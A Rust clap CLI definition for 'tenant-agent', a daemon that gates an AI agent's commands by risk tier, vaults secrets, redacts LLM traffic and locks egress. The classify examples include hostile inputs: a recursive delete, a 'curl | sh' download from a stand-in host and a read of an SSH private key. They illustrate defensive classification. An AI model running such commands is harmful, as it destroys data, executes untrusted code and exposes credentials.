//! The command line of `tenant-agent`, as operators, installers and tests use it.

use std::path::PathBuf;

use clap::{Args, Parser, Subcommand};

/// The safety daemon of one customer VPS.
///
/// tenant-agent supervises the agent runtime, classifies every command and tool call the agent
/// proposes into a risk tier (green < yellow < external < red < critical), holds risky ones until
/// the owner approves them from their phone, keeps the business's secrets in an encrypted vault,
/// and runs the egress proxy through which every LLM call leaves, with secrets redacted.
///
/// Every command takes `--state-dir DIR` to run unprivileged (config, vault and key live there);
/// without it, the system locations of an installed VPS are used.
#[derive(Debug, Parser)]
#[command(
    name = "tenant-agent",
    version,
    propagate_version = true,
    max_term_width = 100
)]
pub struct Cli {
    /// Keep config, vault, key and state in DIR instead of /etc/tenant-agent and
    /// /var/lib/tenant-agent (for development and tests; no root needed).
    #[arg(
        long,
        global = true,
        value_name = "DIR",
        env = "TENANT_AGENT_STATE_DIR"
    )]
    pub state_dir: Option<PathBuf>,

    #[command(subcommand)]
    pub command: Command,
}

#[derive(Debug, Subcommand)]
pub enum Command {
    /// Classify a shell command or tool call and show the tier, the decision and why.
    ///
    /// Examples:
    ///   tenant-agent classify -- rm -rf /srv/shop
    ///   tenant-agent classify --autonomy 2 --json -- 'curl -s https://x.example | sh'
    ///   tenant-agent classify -- 'tool:read_file {"path":"~/.ssh/id_rsa"}'
    ///   printf 'ls -la\ngit push\n' | tenant-agent classify --stdin
    ///   tenant-agent classify --json --explain -- 'bash -c "rm x"'
    ///
    /// With --stdin, every input line gets exactly one JSON line back, in order:
    /// {"tier": "...", "decision": "run|ask|block", "reasons": ["..."]}. A line that cannot be
    /// parsed is answered too (at least red). The exit status is non-zero only for usage errors.
    #[command(verbatim_doc_comment)]
    Classify(ClassifyArgs),

    /// Manage the encrypted secrets vault (values are never printed).
    #[command(subcommand)]
    Secrets(SecretsCommand),

    /// Redact stdin to stdout with the vault's secrets and the credential pattern pack.
    ///
    /// Known secret values (raw, JSON-escaped, URL-encoded, base64, hex) become
    /// SECRET_REF(name); well-known credential formats become [REDACTED:rule-id]; high-entropy
    /// values right after key-like context become [REDACTED:entropy].
    ///
    /// Examples:
    ///   tenant-agent redact < transcript.txt
    ///   tenant-agent redact --json < request.json
    #[command(verbatim_doc_comment)]
    Redact(RedactArgs),

    /// Run the egress proxy in the foreground (the daemon runs it too), or print its token.
    ///
    /// Every LLM call of the agent runtime goes through it: the runtime holds only the proxy
    /// token; the proxy checks it, redacts the JSON body (vault secrets, credential patterns),
    /// swaps in the real provider key from the vault, streams the answer back unbuffered and
    /// meters token usage. Providers and limits come from config.toml ([proxy], [providers.*]).
    ///
    /// Point the official SDKs at it:
    ///   OpenAI:    base_url="http://127.0.0.1:8791/openai/v1", api_key=<proxy token>
    ///   Anthropic: base_url="http://127.0.0.1:8791/anthropic", api_key=<proxy token>
    ///   Any other configured provider NAME: base_url="http://127.0.0.1:8791/NAME/v1"
    ///
    /// Examples:
    ///   printf '%s' "$OPENAI_KEY" | tenant-agent secrets set openai_api_key
    ///   tenant-agent proxy
    ///   tenant-agent proxy token
    #[command(verbatim_doc_comment)]
    Proxy(ProxyArgs),

    /// Print the metered LLM usage: requests and tokens per hour, agent, provider and model.
    ///
    /// INCOMP counts responses that were cut off (usage is then a lower bound); ERRORS counts
    /// error responses. SHIPPED says whether the hour was delivered to the hub.
    Usage {
        /// Print JSON instead of a table.
        #[arg(long)]
        json: bool,
    },

    /// Print the nftables egress lock for the agent runtime's user (and the secret user).
    ///
    /// The runtime's uid may then reach only the egress proxy on loopback (the port from
    /// config.toml) and any --allow-port; everything else it sends is rejected. Give the secret
    /// user too (--user tenant-secret), whose uid runs the approved actions that use a secret,
    /// so that they stay as locked as the runtime. Root and other users are untouched. The
    /// installer applies it; by hand:
    ///
    ///   tenant-agent egress-rules --user tenant-rt --user tenant-secret | nft -f -
    #[command(verbatim_doc_comment)]
    EgressRules(EgressArgs),

    /// Enroll this VPS with the hub: generate the tenant's own Ed25519 key (it never leaves
    /// this machine), spend the single-use token, and pin the hub's signing key, which every
    /// later grant and policy bundle must verify against.
    ///
    /// Example:
    ///   tenant-agent enroll --hub https://hub.example.com --token hte_... \
    ///       --fingerprint SHA256:3q2+7w...
    ///
    /// The token and fingerprint come from `hub admin enroll-token`. Re-running with a new
    /// token re-enrolls (a new key replaces the old one).
    #[command(verbatim_doc_comment)]
    Enroll(EnrollArgs),

    /// Run the daemon: the local safety API (unix socket, for the runtime's plugin), the egress
    /// proxy and the hub sync, in one process. Held actions survive restarts in state.db.
    ///
    /// The runtime asks over the socket (DIR/run/api.sock, or /run/tenant-agent/api.sock):
    ///   POST /v1/actions {"command": "git push", "cwd": "/srv/app"}   -> run | block | ask
    ///   GET  /v1/actions/ID?wait=30                                 -> the decision, the outcome
    #[command(verbatim_doc_comment)]
    Run {
        /// A uid besides root and this user that may use the local API (the runtime's).
        #[arg(long = "runtime-uid", value_name = "UID")]
        runtime_uids: Vec<u32>,
    },

    /// Install this VPS as the appliance (as root, on Debian 12 / Ubuntu 22.04+).
    ///
    /// Creates the users (tenant-agent, tenant-rt, tenant-secret), the directories with their
    /// modes, the binary in /usr/local/bin, the unit, config.toml (only if missing: your edits
    /// are kept), the vault key (a systemd credential where systemd-creds exists, else a 0600
    /// file), the nftables egress lock for the uids of the runtime and of the secret user, the
    /// enrollment when a token is given; then
    /// enables and (re)starts tenant-agent.service. Every step says what it did.
    ///
    /// Safe to run again: a second run changes nothing and says so; a run that failed half way
    /// is completed by running it again; a new --enroll-token re-enrolls.
    ///
    /// Examples:
    ///   sudo tenant-agent install --hub https://hub.example.com --enroll-token hte_... \
    ///       --fingerprint SHA256:...
    ///   sudo tenant-agent install --dry-run          # print every step, change nothing
    ///   tenant-agent install --root /tmp/image       # files only, start nothing
    #[command(verbatim_doc_comment)]
    Install(InstallArgs),

    /// Remove what `install` made: the service, the unit, the binary, the egress lock.
    /// The vault, its key, the state and config.toml stay unless --purge; the users stay.
    Uninstall {
        /// Also delete the vault and its key, the state and the runtime's home (irreversible).
        #[arg(long)]
        purge: bool,
        /// Print what would be removed; remove nothing.
        #[arg(long)]
        dry_run: bool,
        /// Uninstall from the directory tree DIR (as made by `install --root DIR`).
        #[arg(long, value_name = "DIR")]
        root: Option<PathBuf>,
    },

    /// Install or inspect the agent runtime (OpenClaw, pinned).
    #[command(subcommand)]
    Runtime(RuntimeCommand),

    /// Talk to the supervised agent runtime.
    #[command(subcommand)]
    Agent(AgentCommand),

    /// Show the daemon, runtime, proxy, hub connection and last heartbeat, pending approvals,
    /// policy version and usage this hour.
    Status {
        /// Print JSON.
        #[arg(long)]
        json: bool,
    },

    /// Talk to the hub once: send a heartbeat, show the desired state, and install a newer
    /// signed policy bundle if there is one (verified against the pinned hub key; unsigned,
    /// tampered or older bundles are refused and the installed policy stays).
    Sync {
        /// Print JSON.
        #[arg(long)]
        json: bool,
    },
}

#[derive(Debug, Subcommand)]
pub enum RuntimeCommand {
    /// Install the pinned Node.js and OpenClaw into DIR, reproducibly and idempotently.
    ///
    /// Node and npm are downloaded from the npm registry and checked against the SHA-512 in
    /// the lockfile built into this binary; OpenClaw and every dependency come from `npm ci`
    /// against its lockfile (each package's integrity checked). A complete install of the same
    /// versions is left alone; a half-finished one is completed. Needs network access to the
    /// npm registry (or a mirror in `npm_config_registry`); about 860 MB on disk.
    ///
    /// Examples:
    ///   sudo tenant-agent runtime install
    ///   tenant-agent runtime install --dir /srv/openclaw
    ///
    /// Then point the daemon at it in config.toml:
    ///   [runtime]
    ///   type = "openclaw"
    ///   dir = "/opt/openclaw"
    ///   user = "tenant-rt"
    #[command(verbatim_doc_comment)]
    Install {
        /// Where to install (default /opt/openclaw).
        #[arg(long, value_name = "DIR")]
        dir: Option<PathBuf>,
    },
    /// Print the pinned versions and whether DIR holds a complete install of them.
    Versions {
        /// The install directory (default /opt/openclaw).
        #[arg(long, value_name = "DIR")]
        dir: Option<PathBuf>,
    },
}

#[derive(Debug, Subcommand)]
pub enum AgentCommand {
    /// Send one message to the supervised runtime and print the agent's reply.
    ///
    /// The message is an ordinary user turn: every tool call the agent makes goes through the
    /// gate, and a held one waits for the owner like any other. Needs the daemon running with
    /// `[runtime] type = "openclaw"`.
    ///
    /// Examples:
    ///   tenant-agent agent message "What is in the workspace?"
    ///   tenant-agent agent message --session orders "Summarise today's orders"
    #[command(verbatim_doc_comment)]
    Message {
        /// The agent (OpenClaw's agent id).
        #[arg(long, default_value = "main", value_name = "ID")]
        agent: String,
        /// Keep a conversation: messages with the same key share one session.
        #[arg(long, value_name = "KEY")]
        session: Option<String>,
        /// Print the whole answer as JSON (`{"reply": ...}`).
        #[arg(long)]
        json: bool,
        /// The message.
        #[arg(required = true, value_name = "TEXT")]
        text: Vec<String>,
    },
}

#[derive(Debug, Args)]
pub struct InstallArgs {
    /// The hub's base URL (https://; plain http only to localhost or a private address).
    #[arg(long, value_name = "URL")]
    pub hub: Option<String>,
    /// A single-use enrollment token from `hub admin enroll-token` (or the environment
    /// variable, which keeps it out of the process list).
    #[arg(
        long,
        value_name = "TOKEN",
        env = "TENANT_AGENT_ENROLL_TOKEN",
        hide_env_values = true
    )]
    pub enroll_token: Option<String>,
    /// Refuse the hub unless its signing key has this fingerprint (`SHA256:...`).
    #[arg(long, value_name = "FP")]
    pub fingerprint: Option<String>,
    /// The agent runtime to supervise: openclaw, command, or none.
    #[arg(long, default_value = "openclaw", value_name = "TYPE")]
    pub runtime: String,
    /// Print every step; change nothing.
    #[arg(long)]
    pub dry_run: bool,
    /// Install the files into the directory tree DIR and start nothing.
    #[arg(long, value_name = "DIR")]
    pub root: Option<PathBuf>,
}

#[derive(Debug, Args)]
pub struct EnrollArgs {
    /// The hub's base URL (https://; plain http only to localhost or a private address).
    #[arg(long, value_name = "URL", env = "TENANT_AGENT_HUB")]
    pub hub: String,
    /// The single-use enrollment token (`hte_...`).
    #[arg(long, value_name = "TOKEN", env = "TENANT_AGENT_ENROLL_TOKEN")]
    pub token: String,
    /// Refuse the hub unless its signing key has this fingerprint (`SHA256:...`, from
    /// `hub admin fingerprint`).
    #[arg(long, value_name = "FP")]
    pub fingerprint: Option<String>,
}

#[derive(Debug, Args)]
#[command(group(clap::ArgGroup::new("who").required(true).multiple(true).args(["uids", "users"])))]
pub struct EgressArgs {
    /// A uid to lock: the agent runtime's, and the secret user's (repeatable).
    #[arg(long = "uid", value_name = "UID")]
    pub uids: Vec<u32>,
    /// A user name to lock, looked up in the passwd database (repeatable).
    #[arg(long = "user", value_name = "NAME")]
    pub users: Vec<String>,
    /// Another loopback TCP port the runtime may reach, besides the proxy's (repeatable).
    #[arg(long = "allow-port", value_name = "PORT")]
    pub allow_ports: Vec<u16>,
}

#[derive(Debug, Args)]
pub struct ProxyArgs {
    #[command(subcommand)]
    pub command: Option<ProxyCommand>,
}

#[derive(Debug, Subcommand)]
pub enum ProxyCommand {
    /// Print the runtime's proxy token (created on first use). Give it to the agent runtime as
    /// its API key; it is worthless anywhere but this proxy.
    Token,
}

#[derive(Debug, Subcommand)]
pub enum SecretsCommand {
    /// Store a secret. The value is read from stdin (or a hidden prompt on a terminal), never
    /// from the command line. Values shorter than 8 bytes are refused: they cannot be redacted.
    ///
    /// Example: printf '%s' "$KEY" | tenant-agent secrets set stripe_key --allow-host https://api.stripe.com
    ///
    /// The binding says where the secret may go: a command that sends it anywhere else, writes
    /// it to a file or pipes it into another program is blocked; any other use needs the
    /// owner's approval. Without `--allow-*` on an update the existing binding is kept.
    Set {
        /// Secret name: 1 to 64 characters of a-z, 0-9, `_`, `.` and `-`.
        name: String,
        /// A destination it may be sent to: scheme, host, optional port and path prefix
        /// (`https://api.stripe.com`, `https://git.example.com/shop/`). Repeatable.
        #[arg(long = "allow-host", value_name = "URL")]
        allow_hosts: Vec<String>,
        /// A program that may receive it (`psql`, `git`). Repeatable.
        #[arg(long = "allow-program", value_name = "PROGRAM")]
        allow_programs: Vec<String>,
    },
    /// Change where a stored secret may go (its value is not touched). With no `--allow-*`
    /// the secret is unbound: every use then needs the owner's approval of that exact action.
    ///
    /// Example: tenant-agent secrets bind db_password --allow-program psql
    Bind {
        /// The secret.
        name: String,
        /// A destination it may be sent to (see `secrets set`). Repeatable.
        #[arg(long = "allow-host", value_name = "URL")]
        allow_hosts: Vec<String>,
        /// A program that may receive it. Repeatable.
        #[arg(long = "allow-program", value_name = "PROGRAM")]
        allow_programs: Vec<String>,
    },
    /// List secret names, where each may go, and their created, updated and last-used times
    /// (never values).
    List {
        /// Print JSON instead of a table.
        #[arg(long)]
        json: bool,
    },
    /// Delete a secret.
    Rm {
        /// The secret to delete.
        name: String,
    },
    /// Import every entry of a dotenv file (KEY=value). Names are lowercased; values are taken
    /// literally ($VAR is not expanded). Nothing is imported unless every entry is valid.
    Import {
        /// The .env file.
        file: PathBuf,
    },
    /// Generate a new vault key and re-encrypt the vault with it.
    RotateKey,
}

#[derive(Debug, Args)]
pub struct RedactArgs {
    /// Treat stdin as one JSON document: redact every string, keep everything else; invalid
    /// JSON is an error.
    #[arg(long)]
    pub json: bool,
}

#[derive(Debug, Args)]
pub struct ClassifyArgs {
    /// Use the policy bundle in DIR (every *.toml file) instead of the active one.
    #[arg(long, value_name = "DIR")]
    pub policy: Option<PathBuf>,

    /// Autonomy level: 1 supervised, 2 trusted, 3 autonomous.
    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u8).range(1..=3))]
    pub autonomy: u8,

    /// External channels the customer unlocked for level 3 (comma separated, e.g. email,publish).
    #[arg(long, value_delimiter = ',', value_name = "CHANNELS")]
    pub unlocked: Vec<String>,

    /// Working directory the command would run in (relative paths are resolved against it).
    #[arg(long, value_name = "DIR")]
    pub cwd: Option<String>,

    /// Home directory of the runtime user (`~`, `$HOME`).
    #[arg(long, value_name = "DIR")]
    pub home: Option<String>,

    /// Print one JSON object instead of text.
    #[arg(long)]
    pub json: bool,

    /// Also list every simple command the classifier judged, as named: `"commands": ["rm",
    /// "/tmp/x"]` in JSON (--json, --stdin), a `commands:` line in text. A part of a name known
    /// only at run time is U+0001 in JSON, `…` in text. This is what the differential oracle
    /// (safety/tests/oracle.rs) compares with what real bash executes.
    #[arg(long)]
    pub explain: bool,

    /// Read one input per line from stdin and answer each with a JSON line.
    #[arg(long, conflicts_with = "command")]
    pub stdin: bool,

    /// The command to classify (after `--`), or `tool:NAME {json args}` for a tool call.
    #[arg(last = true, value_name = "COMMAND", required_unless_present = "stdin")]
    pub command: Vec<String>,
}
